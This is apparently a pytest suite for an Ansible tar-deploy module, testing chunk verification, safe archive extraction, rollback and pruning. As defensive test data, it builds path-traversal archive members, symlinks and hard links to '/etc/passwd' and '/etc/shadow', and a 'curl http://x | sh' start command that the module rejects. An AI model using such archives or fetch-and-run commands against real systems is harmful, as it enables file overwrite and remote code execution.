# Copyright (c) opsforge.infra contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""tar deploys, host side, run locally: chunk store, verification, safe extraction, releases, rollback, pruning."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import sys
import tarfile

import pytest

from ansible_collections.opsforge.infra.plugins.module_utils._deploy.errors import DeployError
from ansible_collections.opsforge.infra.plugins.module_utils._deploy.chunks import (
    assemble, chunk_name, file_hashes, join_tails, probe_chunks, tail_name, verify_chunks)
from ansible_collections.opsforge.infra.plugins.module_utils._deploy.releases import safe_extract
from ansible_collections.opsforge.infra.plugins.module_utils._deploy.tar import TAR_OPTIONS, TarDeployment

sys.path.insert(0, os.path.dirname(__file__))
from deploy_helpers import Server  # noqa: E402

CHUNK = 4096


def make_tar(path, files, links=(), extra=()):
    with tarfile.open(str(path), "w:gz") as tar:
        for name, data in files.items():
            data = data.encode() if isinstance(data, str) else data
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, target in links:
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tar.addfile(info)
        for info in extra:
            tar.addfile(info)
    return str(path)


def upload(src, state_dir, sha):
    """What the action plugin does: put every chunk into uploads/<sha256>/."""
    dest = os.path.join(state_dir, "uploads", sha)
    os.makedirs(dest, exist_ok=True)
    with open(src, "rb") as handle:
        index = 0
        for data in iter(lambda: handle.read(CHUNK), b""):
            with open(os.path.join(dest, chunk_name(index)), "wb") as out:
                out.write(data)
            index += 1
    return dest


def test_file_hashes_match_hashlib(tmp_path):
    path = tmp_path / "f"
    data = os.urandom(CHUNK * 3 + 17)
    path.write_bytes(data)
    size, sha, chunks = file_hashes(str(path), CHUNK)
    assert size == len(data) and sha == hashlib.sha256(data).hexdigest() and len(chunks) == 4
    assert chunks[3] == hashlib.sha256(data[3 * CHUNK:]).hexdigest()
    path.write_bytes(data[:CHUNK * 2])
    assert len(file_hashes(str(path), CHUNK)[2]) == 2


def test_probe_finds_missing_partial_and_corrupt_chunks(tmp_path):
    src = tmp_path / "p"
    src.write_bytes(os.urandom(CHUNK * 4))
    size, sha, chunks = file_hashes(str(src), CHUNK)
    up = upload(str(src), str(tmp_path / "state"), sha)
    os.unlink(os.path.join(up, chunk_name(3)))
    with open(os.path.join(up, chunk_name(2)), "r+b") as handle:
        handle.truncate(100)
    with open(os.path.join(up, chunk_name(1)), "r+b") as handle:
        handle.write(b"XXXX")
    open(os.path.join(up, tail_name(3, 10)), "wb").close()  # a tail whose transfer was cut: dropped
    res = probe_chunks(up, chunks, size, CHUNK)
    assert res["have"] == [0] and res["missing"] == [1, 2, 3] and res["corrupt"] == [1] and res["partial"] == [2]
    # the chunk cut short is kept, with what the controller needs to check its start
    data = src.read_bytes()
    assert res["prefixes"] == {"2": {"size": 100, "sha256": hashlib.sha256(data[CHUNK * 2:CHUNK * 2 + 100]).hexdigest()}}
    assert res["have_bytes"] == CHUNK and sorted(os.listdir(up)) == [chunk_name(0), chunk_name(2)]


def test_tails_complete_chunks_cut_short(tmp_path):
    src = tmp_path / "p"
    data = os.urandom(CHUNK * 3)
    src.write_bytes(data)
    size, sha, chunks = file_hashes(str(src), CHUNK)
    up = upload(str(src), str(tmp_path / "state"), sha)
    for index, cut in ((0, 1000), (1, 2000)):
        with open(os.path.join(up, chunk_name(index)), "r+b") as handle:
            handle.truncate(cut)
    # chunk 0 gets the rest from where it stopped; chunk 1's tail claims the wrong start and is dropped
    (tmp_path / "state" / "uploads" / sha / tail_name(0, 1000)).write_bytes(data[1000:CHUNK])
    (tmp_path / "state" / "uploads" / sha / tail_name(1, 1500)).write_bytes(data[CHUNK + 1500:CHUNK * 2])
    join_tails(up)
    assert sorted(os.listdir(up)) == [chunk_name(i) for i in range(3)]
    assert (tmp_path / "state" / "uploads" / sha / chunk_name(0)).read_bytes() == data[:CHUNK]
    with pytest.raises(DeployError, match=r"chunk\(s\) 1 of the package are missing or corrupted"):
        verify_chunks(up, chunks, sha)


def test_assemble_detects_corruption(tmp_path):
    src = tmp_path / "p"
    src.write_bytes(os.urandom(CHUNK * 2 + 5))
    size, sha, chunks = file_hashes(str(src), CHUNK)
    up = upload(str(src), str(tmp_path / "state"), sha)
    assemble(up, chunks, sha, str(tmp_path / "ok.tar"))
    assert (tmp_path / "ok.tar").read_bytes() == src.read_bytes()
    with open(os.path.join(up, chunk_name(1)), "r+b") as handle:
        handle.write(b"\0\0\0\0")
    with pytest.raises(DeployError, match="chunk.s. 1 of the package are missing or corrupted") as err:
        assemble(up, chunks, sha, str(tmp_path / "bad.tar"))
    assert err.value.details["corrupt_chunks"] == [1] and not (tmp_path / "bad.tar").exists()
    with pytest.raises(DeployError, match="expected"):
        assemble(upload(str(src), str(tmp_path / "s2"), sha), chunks, "0" * 64, str(tmp_path / "x.tar"))


def dev_member():
    info = tarfile.TarInfo("null")
    info.type = tarfile.CHRTYPE
    return info


def hardlink(name, target):
    info = tarfile.TarInfo(name)
    info.type = tarfile.LNKTYPE
    info.linkname = target
    return info


@pytest.mark.parametrize("files,links,extra,needle", [
    ({"../evil": "x"}, (), (), "'..' in the path"),
    ({"a/../../evil": "x"}, (), (), "'..' in the path"),
    ({"/tmp/evil": "x"}, (), (), "absolute path"),
    ({}, [("l", "../../etc")], (), "escapes the release"),
    ({}, [("l", "/etc/passwd")], (), "escapes the release"),
    ({}, [("d/l", "../../x")], (), "escapes the release"),
    ({}, (), [dev_member()], "device or fifo"),
    ({}, (), [hardlink("h", "/etc/shadow")], "hard link"),
    ({"l/evil": "x"}, [("l", "sub")], (), "parent is a symlink"),
])
def test_unsafe_members_refused_nothing_extracted(tmp_path, files, links, extra, needle):
    files = dict(files, **{"index.html": "ok"})
    pkg = make_tar(tmp_path / "p.tgz", files, links, extra)
    dest = tmp_path / "release"
    with pytest.raises(DeployError, match="nothing was extracted") as err:
        safe_extract(pkg, str(dest))
    assert needle in err.value.msg
    assert not dest.exists() and not (tmp_path / "release.extracting").exists() and not (tmp_path / "evil").exists()


def test_safe_members_extracted(tmp_path):
    pkg = make_tar(tmp_path / "p.tgz", {"index.html": "ok", "sub/a.txt": "a"}, links=[("sub/link", "../index.html")])
    assert safe_extract(pkg, str(tmp_path / "r")) == 3
    assert (tmp_path / "r" / "sub" / "link").read_text() == "ok"


class TarRun:
    """Run TarDeployment locally as the module would after the action plugin's transfer."""

    def __init__(self, tmp_path, server):
        self.tmp = tmp_path
        self.state = str(tmp_path / "state")
        self.deploy_dir = str(tmp_path / "app")
        self.server = server

    def release(self, version, install=None, healthy=True):
        path = self.tmp / ("%s.tgz" % version)
        if path.exists():
            return str(path)
        files = {"index.html": "version=%s" % version}
        if healthy:
            files["health"] = "ok"
        if install:
            files["install.sh"] = install
        return make_tar(self.tmp / ("%s.tgz" % version), files)

    def deploy(self, version, pkg, check_mode=False, **kw):
        _size, sha, _chunks, params = self.module_params(pkg, version)
        params.update(kw)
        probe = TarDeployment(dict(params), check_mode=check_mode).probe()
        if not probe["up_to_date"] and not check_mode:
            upload(pkg, self.state, sha)
        return TarDeployment(params, check_mode=check_mode).run()

    def module_params(self, pkg, version="1"):
        """``(size, sha256, chunk hashes, params)``: the module's parameters for deploying ``pkg`` as ``version``."""
        size, sha, chunks = file_hashes(pkg, CHUNK)
        params = dict((k, v.get("default")) for k, v in TAR_OPTIONS.items())
        params.update(app="web", version=version, deploy_dir=self.deploy_dir, state_dir=self.state, chunk_size=CHUNK,
                      src=pkg, package_sha256=sha, package_size=size, chunk_sha256=chunks,
                      health_checks=[dict(port=self.server.port, retries=0, delay=0, timeout=5)])
        return size, sha, chunks, params

    def current(self):
        return open(os.path.join(self.deploy_dir, "current", "index.html")).read()

    def meta(self):
        return json.load(open(os.path.join(self.deploy_dir, ".opsforge-releases.json")))["releases"]


@pytest.fixture
def tar_run(tmp_path):
    holder = {}

    def status(n):
        run = holder["run"]
        try:
            return 200 if os.path.exists(os.path.join(run.deploy_dir, "current", "health")) else 404
        except OSError:
            return 404

    with Server(status=status) as srv:
        holder["run"] = TarRun(tmp_path, srv)
        yield holder["run"]


def test_tar_flow_rollback_skips_bad_and_prunes(tar_run):
    r = tar_run
    assert r.deploy("1", r.release("1"), check_mode=True)["changed"] and not os.path.exists(r.deploy_dir)
    res = r.deploy("1", r.release("1"))
    assert res["deploy"]["status"] == "success" and r.current() == "version=1"
    assert r.deploy("1", r.release("1"))["changed"] is False
    other = make_tar(r.tmp / "other.tgz", {"index.html": "other"})
    with pytest.raises(DeployError, match="release 1 is current with another package"):
        r.deploy("1", other)
    r.deploy("2", r.release("2", install="echo $DEPLOY_VERSION > installed"))
    assert r.current() == "version=2"
    assert open(os.path.join(r.deploy_dir, "releases", "2", "installed")).read().strip() == "2"
    with pytest.raises(DeployError) as err:
        r.deploy("3", r.release("3", healthy=False))
    assert err.value.details["deploy"]["rollback"]["status"] == "rolled_back" and r.current() == "version=2"
    assert r.meta()["3"]["status"] == "bad"
    # Now make 2 bad by hand: a failing 4 must skip 3 (bad) and 2 (bad) and go back to 1.
    meta = json.load(open(os.path.join(r.deploy_dir, ".opsforge-releases.json")))
    meta["releases"]["2"]["status"] = "bad"
    json.dump(meta, open(os.path.join(r.deploy_dir, ".opsforge-releases.json"), "w"))
    with pytest.raises(DeployError) as err:
        r.deploy("4", r.release("4", install="exit 9"))
    assert err.value.details["deploy"]["rollback"]["target_version"] == "1" and r.current() == "version=1"
    # keep_releases=1 keeps current (5) and the rollback target (1) only.
    r.deploy("5", r.release("5"), keep_releases=1)
    assert sorted(os.listdir(os.path.join(r.deploy_dir, "releases"))) == ["1", "5"]
    assert os.readlink(os.path.join(r.deploy_dir, "current")) == "releases/5"


def test_tar_bad_input_before_any_change(tar_run):
    r = tar_run
    with pytest.raises(DeployError, match="cannot name a release"):
        r.deploy("../x", r.release("x"))
    with pytest.raises(DeployError, match="do not describe the same package"):
        r.deploy("1", r.release("1"), chunk_sha256=["0" * 64, "1" * 64])
    with pytest.raises(DeployError, match="dangerous"):
        r.deploy("1", r.release("1"), start_command="curl http://x | sh")
    assert not os.path.exists(r.deploy_dir) and not os.path.exists(os.path.join(r.state, "uploads"))
    shutil.rmtree(r.state, ignore_errors=True)


def test_first_deploy_failing_has_nothing_to_roll_back(tar_run):
    r = tar_run
    with pytest.raises(DeployError) as err:
        r.deploy("1", r.release("1", install="exit 2"))
    record = err.value.details["deploy"]
    assert record["rollback"]["performed"] is False and "nothing to roll back to" in record["rollback"]["reason"]
    assert "rollback" not in err.value.msg.split(":")[-1] and r.meta()["1"]["status"] == "bad"


def test_chain_reader_reads_and_seeks_across_chunks(tmp_path):
    from ansible_collections.opsforge.infra.plugins.module_utils._deploy.chunks import ChainReader

    data = os.urandom(CHUNK * 3 + 11)
    src = tmp_path / "p"
    src.write_bytes(data)
    up = upload(str(src), str(tmp_path / "s"), "x")
    reader = ChainReader([os.path.join(up, chunk_name(i)) for i in range(4)])
    assert reader.read() == data
    reader.seek(CHUNK - 3)
    assert reader.read(10) == data[CHUNK - 3:CHUNK + 7]
    reader.seek(-5, 2)
    assert reader.read() == data[-5:] and reader.tell() == len(data)
    reader.close()


def chunk_reader(tmp_path, kind):
    """The bytes of a four-chunk package and one of the two readers over its chunks (all on the host)."""
    from ansible_collections.opsforge.infra.plugins.module_utils._deploy.chunks import ArrivingChunks, ChainReader

    data = os.urandom(CHUNK * 3 + 11)
    src = tmp_path / "p"
    src.write_bytes(data)
    size, _sha, chunks = file_hashes(str(src), CHUNK)
    up = upload(str(src), str(tmp_path / "s"), "x")
    if kind == "chain":
        return data, ChainReader([os.path.join(up, chunk_name(i)) for i in range(len(chunks))])
    return data, ArrivingChunks(up, chunks, [], CHUNK, size, idle=1)


@pytest.mark.parametrize("kind", ["chain", "arriving"])
def test_both_chunk_readers_are_one_reader_over_the_chunk_files(tmp_path, kind):
    from ansible_collections.opsforge.infra.plugins.module_utils._deploy import chunks

    data, reader = chunk_reader(tmp_path, kind)
    assert isinstance(reader, chunks._PartsReader)
    assert not {"readinto", "seek", "tell", "close"} & set(vars(type(reader)))  # written once, in the base
    assert reader.size == len(data)
    assert [part[:2] for part in reader.parts] == [(0, CHUNK), (CHUNK, CHUNK), (2 * CHUNK, CHUNK), (3 * CHUNK, 11)]
    reader.wait_range(CHUNK - 1, 2)
    assert reader.read() == data
    reader.seek(CHUNK - 3)
    # The batch reader fills across chunk ends; the arriving one stops at one, never waiting for a chunk early.
    assert reader.read(10) == data[CHUNK - 3:CHUNK + 7 if kind == "chain" else CHUNK]
    reader.seek(-5, 2)
    assert reader.read() == data[-5:] and reader.tell() == len(data)
    reader.seek(CHUNK)
    os.truncate(reader.parts[1][2], 100)  # a chunk that shrank under the reader
    with pytest.raises(OSError, match="chunk 1 is shorter than it was"):
        reader.read()
    reader.close()
    assert reader.closed


def test_extract_straight_from_chunks(tmp_path):
    blob = os.urandom(CHUNK * 5)
    pkg = make_tar(tmp_path / "p.tgz", {"index.html": "ok", "blob": blob})
    size, sha, chunks = file_hashes(pkg, CHUNK)
    assert len(chunks) > 2
    up = upload(pkg, str(tmp_path / "s"), sha)
    paths = verify_chunks(up, chunks, sha)
    assert safe_extract(paths, str(tmp_path / "r")) == 2
    assert (tmp_path / "r" / "blob").read_bytes() == blob


def make_plain_tar(path, files):
    with tarfile.open(str(path), "w") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o640
            tar.addfile(info, io.BytesIO(data))
    return str(path)


@pytest.mark.parametrize("kernel_copy", ["copy_file_range", "EXDEV", "absent"])
def test_uncompressed_members_spanning_chunks_are_copied_exactly(tmp_path, monkeypatch, kernel_copy):
    """Uncompressed packages are copied chunk to file in the kernel; when the filesystem refuses
    (EXDEV) or the call is missing, tarfile's copy gives the same files."""
    from ansible_collections.opsforge.infra.plugins.module_utils._deploy import chunks as tar_utils

    calls = []
    real = getattr(os, "copy_file_range", None)
    if kernel_copy == "copy_file_range" and real is None:
        pytest.skip("os.copy_file_range is not available here")

    def refusing(*args):
        calls.append(args[2])
        raise OSError(18, "Invalid cross-device link")

    def counting(*args):
        calls.append(args[2])
        return real(*args)

    if kernel_copy == "absent":
        monkeypatch.delattr(os, "copy_file_range", raising=False)
    else:
        monkeypatch.setattr(os, "copy_file_range", counting if kernel_copy == "copy_file_range" else refusing)
    files = {"a.bin": os.urandom(CHUNK * 2 + 100), "b/c.bin": os.urandom(CHUNK // 3), "empty": b""}
    pkg = make_plain_tar(tmp_path / "p.tar", files)
    size, sha, chunks = file_hashes(pkg, CHUNK)
    paths = tar_utils.verify_chunks(upload(pkg, str(tmp_path / "s"), sha), chunks, sha)
    assert safe_extract(paths, str(tmp_path / "r")) == 3
    for name, data in files.items():
        assert (tmp_path / "r" / name).read_bytes() == data
        assert os.stat(str(tmp_path / "r" / name)).st_mode & 0o777 == 0o640
    if kernel_copy == "copy_file_range":
        assert sum(calls) >= len(files["a.bin"]) + len(files["b/c.bin"])  # a.bin spans three chunks
    elif kernel_copy == "EXDEV":
        assert calls  # tried, refused, copied by tarfile


def test_truncated_uncompressed_package_fails_clearly(tmp_path):
    pkg = make_plain_tar(tmp_path / "p.tar", {"a.bin": os.urandom(CHUNK * 3)})
    with open(pkg, "rb") as handle:
        head = handle.read(CHUNK * 2)  # header + part of a.bin: the data ends early
    cut = tmp_path / "cut.tar"
    cut.write_bytes(head)
    size, sha, chunks = file_hashes(str(cut), CHUNK)
    paths = verify_chunks(upload(str(cut), str(tmp_path / "s"), sha), chunks, sha)
    with pytest.raises(DeployError, match="cannot read the package"):
        safe_extract(paths, str(tmp_path / "r"))
    assert sorted(os.listdir(str(tmp_path))) == ["cut.tar", "p.tar", "s"]  # no release, no staging left


def test_shared_paths_survive_releases(tar_run):
    r = tar_run
    with pytest.raises(DeployError, match="shared_paths"):
        r.deploy("1", r.release("1"), shared_paths=["../data"])
    assert not os.path.exists(r.deploy_dir)
    r.deploy("1", r.release("1"), shared_paths=["data"])
    with open(os.path.join(r.deploy_dir, "current", "data", "db"), "w") as handle:
        handle.write("kept")
    r.deploy("2", r.release("2"), shared_paths=["data"])
    assert os.readlink(os.path.join(r.deploy_dir, "releases", "2", "data")) == "../../shared/data"
    assert open(os.path.join(r.deploy_dir, "current", "data", "db")).read() == "kept"


def test_tar_rollback_starts_the_version_rolled_back_to_and_keeps_current_when_unchanged(tar_run):
    r = tar_run
    start = 'echo "$DEPLOY_VERSION" >> "$DEPLOY_DIR/starts.log"'
    starts = os.path.join(r.deploy_dir, "starts.log")
    r.deploy("1", r.release("1"), start_command=start)
    with pytest.raises(DeployError):
        r.deploy("2", r.release("2", healthy=False), start_command=start)  # switched, unhealthy, rolled back
    assert open(starts).read().split() == ["1", "2", "1"] and r.current() == "version=1"
    link = os.lstat(os.path.join(r.deploy_dir, "current"))
    with pytest.raises(DeployError) as err:
        r.deploy("3", r.release("3", install="exit 3"), start_command=start)  # failed before the switch
    assert err.value.details["deploy"]["rollback"]["status"] == "rolled_back"
    again = os.lstat(os.path.join(r.deploy_dir, "current"))
    assert (again.st_ino, again.st_mtime_ns) == (link.st_ino, link.st_mtime_ns)  # current not re-created
    assert open(starts).read().split() == ["1", "2", "1"]  # nothing to restart: the app never changed


def test_deploy_tar_runs_the_stage_asked_for_and_every_result_carries_the_transfer(tar_run):
    """The module's one call: probe, extract or deploy by ``stage``; the deploy's result and any failure
    return the transfer the action plugin reported ({} when it sent none)."""
    from ansible_collections.opsforge.infra.plugins.module_utils._deploy.tar import deploy_tar

    r = tar_run
    pkg = r.release("1")
    size, sha, chunks, params = r.module_params(pkg)
    probe = deploy_tar(dict(params, stage="probe"))
    assert probe["missing"] == list(range(len(chunks))) and "transfer" not in probe
    upload(pkg, r.state, sha)
    assert deploy_tar(dict(params, stage="extract"), check_mode=True) == dict(changed=False, staged=None, reason=None)
    with pytest.raises(DeployError, match="do not describe the same package") as err:
        deploy_tar(dict(params, chunk_sha256=["0" * 64, "1" * 64]))
    assert err.value.details["transfer"] == {}
    transfer = dict(method="put_file", bytes_sent=size)
    result = deploy_tar(dict(params, transfer=transfer))
    assert result["deploy"]["status"] == "success" and result["transfer"] == transfer and r.current() == "version=1"
    assert deploy_tar(dict(params, version="2", stage="probe"))["missing"] == [0]
    with pytest.raises(DeployError, match="deploy of web 2 failed") as err:  # no chunk was sent: verification fails
        deploy_tar(dict(params, version="2", transfer=transfer))
    assert err.value.details["transfer"] == transfer and err.value.details["deploy"]["status"] == "failed"


def test_deploy_stage_without_an_upload_fails_clearly(tar_run):
    """The deploy stage run before any probe (no upload directory on the host) is a clear DeployError that names
    what is missing, not a FileNotFoundError traceback; nothing is deployed."""
    from ansible_collections.opsforge.infra.plugins.module_utils._deploy.tar import deploy_tar

    r = tar_run
    pkg = r.release("1")
    size, sha, chunks, params = r.module_params(pkg)
    with pytest.raises(DeployError, match="no chunk of this package has reached the host") as err:
        deploy_tar(params)
    assert err.value.details["transfer"] == {}
    assert not os.path.exists(os.path.join(r.deploy_dir, "current"))
